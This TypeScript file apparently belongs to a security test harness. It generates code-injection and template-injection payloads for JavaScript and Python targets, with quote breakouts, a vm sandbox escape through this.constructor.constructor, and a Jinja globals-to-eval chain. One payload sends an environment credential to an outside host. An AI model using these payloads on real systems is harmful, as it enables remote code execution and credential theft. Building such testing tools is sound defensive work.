import type { CanaryCall, EffectName, Form, Subject, Target } from '../subject.ts';

/**
 * Expressions in a language, each with one effect. They cause no error if the guard blocks them, so that the next one runs.
 */
export interface Snippets {
  /** Returns an expression with the effect. */
  readonly expressionFor: (effect: EffectName) => string;
  /** Ways to put the expression into a text: alone, in quotes, after an operator. */
  readonly forms: readonly { readonly says: string; readonly around: (expression: string) => string }[];
}

const quoted = JSON.stringify;

/**
 * Returns code in the language of the function whose effects can be observed from outside, and ways to put the code into a
 * text.
 */
export function snippetsFor(subject: Subject, target: Target): Snippets {
  return subject.language === 'javascript' ? javascript(subject, target) : python(subject, target);
}

/**
 * Returns a text that shows that the code ran. The code contains only the two halves of the text, so a function that logs
 * its event does not print the text.
 */
export const mark = (target: Target): string => `${target.token}:code`;

const javascript = ({ calls, credential }: Subject, target: Target): Snippets => ({
  expressionFor: (effect) => {
    const call = effect === 'needed' ? calls.needed : effect === 'excess' ? calls.excess : null;
    if (call)
      return `fetch(process.env.AWS_ENDPOINT_URL+${quoted(call.path)},{method:${quoted(call.method)},headers:{authorization:"AWS4-HMAC-SHA256 Credential="+process.env.AWS_ACCESS_KEY_ID+${quoted(scope(call, target))},...${quoted(headers(call))}}${call.body === '' ? '' : `,body:${quoted(call.body)}`}}).catch(()=>0)`;
    if (effect === 'internet')
      return `fetch(${quoted(`${target.outside}/${target.token}?`)}+process.env.${credential}).catch(()=>0)`;
    return `process.stdout.write([${quoted(target.token)},"code\\n"].join(":"))`;
  },
  forms: [
    { says: 'as an expression', around: (code) => code },
    { says: 'in single quotes', around: (code) => `'+(${code})+'` },
    { says: 'in double quotes', around: (code) => `"+(${code})+"` },
    { says: 'in a template text', around: (code) => `\${${code}}` },
    { says: 'behind an operand', around: (code) => `1;${code};//` },
    {
      says: 'out of a context of vm',
      around: (code) => `this.constructor.constructor(${quoted(`return ${code}`)})()`,
    },
  ],
});

const python = ({ calls, credential }: Subject, target: Target): Snippets => ({
  expressionFor: (effect) => {
    const call = effect === 'needed' ? calls.needed : effect === 'excess' ? calls.excess : null;
    const request = '__import__("urllib.request").request';
    const env = '__import__("os").environ';
    if (call)
      return `${request}.urlopen(${request}.Request(${env}["AWS_ENDPOINT_URL"]+${quoted(call.path)},${call.body === '' ? 'None' : `${quoted(call.body)}.encode()`},{**${quoted(headers(call))},"authorization":"AWS4-HMAC-SHA256 Credential="+${env}["AWS_ACCESS_KEY_ID"]+${quoted(scope(call, target))}},method=${quoted(call.method)}),timeout=5)`;
    if (effect === 'internet')
      return `${request}.urlopen(${quoted(`${target.outside}/${target.token}?`)}+${env}[${quoted(credential)}],timeout=5)`;
    return `__import__("sys").stdout.write(":".join([${quoted(target.token)},"code\\n"]))`;
  },
  forms: [
    { says: 'as an expression', around: (code) => code },
    { says: 'in single quotes', around: (code) => `'+str(${code})+'` },
    { says: 'in double quotes', around: (code) => `"+str(${code})+"` },
    { says: 'behind an operand', around: (code) => `1,${code}#` },
  ],
});

/** Returns the end of an authorization header. Its token identifies the request. */
export const scope = ({ action }: CanaryCall, { token }: Target): string =>
  `/20260101/eu-west-1/${action.split(':', 1)[0]}/aws4_request, SignedHeaders=host, Signature=${token}`;

/** Returns the headers of a call in the JSON protocol; none for a call without a body. */
export const headers = ({ action, body }: CanaryCall): Readonly<Record<string, string>> =>
  body === ''
    ? {}
    : { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': `Replay.${action.split(':')[1]}` };

/** Returns attacks on functions that evaluate a text as code. */
export function codeForms(subject: Subject, target: Target): readonly Form[] {
  const { expressionFor, forms } = snippetsFor(subject, target);
  return forms.map(({ says, around }) => ({ says, text: (effect) => around(expressionFor(effect)) }));
}

/** Returns attacks on template engines, with the marks that engines have around code. */
export function templateForms(subject: Subject, target: Target): readonly Form[] {
  const { expressionFor } = snippetsFor(subject, target);
  const marks: readonly (readonly [string, (code: string) => string])[] =
    subject.language === 'javascript'
      ? [
          ['between <%= %>', (code) => `<%= ${code} %>`],
          ['between ${ }', (code) => `\${${code}}`],
          [
            'between {{ }}, by a constructor',
            (code) => `{{range.constructor(${quoted(`return ${code}`)})()}}`,
          ],
          ['between #{ }', (code) => `#{${code}}`],
        ]
      : [
          [
            'between {{ }}, by the globals of a built-in',
            (code) => `{{ cycler.__init__.__globals__.__builtins__.eval(${quoted(code)}) }}`,
          ],
          ['between ${ }', (code) => `\${${code}}`],
        ];
  return marks.map(([says, around]) => ({ says, text: (effect) => around(expressionFor(effect)) }));
}
